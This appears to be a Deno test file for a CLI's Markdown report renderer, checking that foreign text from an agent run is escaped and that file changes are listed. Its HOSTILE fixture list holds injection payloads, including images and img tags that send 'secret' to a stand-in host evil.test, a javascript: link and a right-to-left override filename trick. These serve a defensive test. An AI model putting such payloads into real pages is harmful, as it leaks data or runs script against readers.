// What others wrote stays text wherever it stands in a report: nothing is loaded, closed, hidden or added by it.
import { assertEquals, assertStringIncludes } from "@std/assert";
import MarkdownIt from "markdown-it";
import { reportMarkdown } from "../../../src/cli/report/markdown.ts";
import type { FileChange } from "../../../src/core/changes.ts";
import { runReport } from "../../../src/cli/report/report.ts";
import { collectFacts, type RunFacts } from "../../../src/cli/report/facts.ts";

const HOSTILE = [
  "![x](https://evil.test/?q=secret)",
  "![x][r]\n\n[r]: https://evil.test/?q=secret",
  '<img src="https://evil.test/?q=secret">',
  "<!-- hides all that follows",
  "~~~",
  "```",
  "`",
  "\\",
  "# Checks",
  "- one",
  "1. one",
  "a | b | c",
  "a \\| b",
  "<details><summary>",
  "&lt;img&gt;",
  "==",
  "[text](javascript:alert(1))",
  "\u202egnp.exe\u200b",
  "```mermaid\ngraph LR; a[<img src='https://evil.test'>]\n```",
];

const factsWith = (foreign: string): RunFacts => ({
  task: foreign,
  answer: foreign,
  commands: [{ command: foreign, exitCode: 0, durationMs: 1 }],
  denials: [{ tool: foreign, kind: "read", target: foreign, why: foreign, grant: foreign, calls: 1 }],
  deniedCalls: 1,
  isLastDenied: true,
  failedCalls: 1,
  failures: [{ tool: foreign, target: foreign, why: foreign }],
  checks: [{ command: foreign, passed: false, runs: 1, output: foreign }],
  hosts: [foreign],
  warnings: [foreign],
  rounds: [],
});

Deno.test("reportMarkdown() shows foreign text as text: no picture, tag, drawing, heading, list or row comes of it", () => {
  const parser = new MarkdownIt({ html: true });
  for (const foreign of HOSTILE) {
    const page = reportMarkdown(
      runReport({ outcome: "error", exitCode: 1, why: foreign }, factsWith(foreign), undefined),
    );
    const tokens = parser.parse(page, {});
    const all = tokens.flatMap((token) => [token, ...token.children ?? []]);
    assertEquals(all.filter(({ type }) => /^(?:html|image|link)/.test(type)).map(({ type }) => type), [], foreign);
    assertEquals(all.filter(({ info }) => /mermaid/.test(info)).length, 0);
    const top = tokens.filter(({ level, type }) => level === 0 && !type.endsWith("_close")).map(({ type }) => type);
    // Title, why, task, checks and what they said, denials, failures, commands, hosts, the warning, the answer.
    assertEquals(top, [
      ...["heading_open", "paragraph_open", "paragraph_open", "heading_open", "table_open", "paragraph_open", "fence"],
      ...["heading_open", "table_open"],
      ...["heading_open", "table_open", "heading_open", "table_open", "paragraph_open", "blockquote_open"],
      ...["heading_open", "blockquote_open"],
    ], foreign);
    const cells = all.filter(({ type }) => type === "td_open").length;
    assertEquals(cells, 3 + 4 + 3 + 3, foreign);
  }
});

Deno.test("reportMarkdown() keeps what a model's Markdown says", () => {
  const page = reportMarkdown(
    runReport(
      { outcome: "done", exitCode: 0 },
      factsWith("# Done\n\n- **a**\n- `b | c`\n\n```ts\nx<y>();\n```"),
      undefined,
    ),
  );
  assertStringIncludes(
    page,
    "### What the model said\n\n> ### Done\n>\n> - **a**\n> - `b | c`\n>\n> ```ts\n> x<y>();\n> ```\n",
  );
});

Deno.test("reportMarkdown() says of each file what became of it, its mode among it", () => {
  const modes = { modeBefore: 0o644, modeAfter: 0o755 };
  const files: readonly FileChange[] = [
    { path: "a", kind: "changed", thing: "file", linesAdded: 1, linesRemoved: 0, ...modes },
    { path: "b", kind: "mode", thing: "file", ...modes },
    { path: "d", kind: "moved", thing: "file", from: "c", ...modes },
    { path: "e", kind: "created", thing: "file", isBinary: true },
  ];
  const facts = collectFacts();
  facts.take({
    type: "changes",
    changes: { of: "run", calls: [], files, linesAdded: 1, linesRemoved: 0, counted: [], leftOut: [] },
  });
  const page = reportMarkdown(runReport({ outcome: "done", exitCode: 0 }, facts.facts(), undefined));
  assertEquals(page.split("\n").filter((line) => line.startsWith("| `")), [
    "| `a` | changed, mode 644 → 755 | +1 −0 |",
    "| `b` | mode 644 → 755 | – |",
    "| `d` | moved from `c`, mode 644 → 755 | – |",
    "| `e` | created | binary |",
  ]);
});
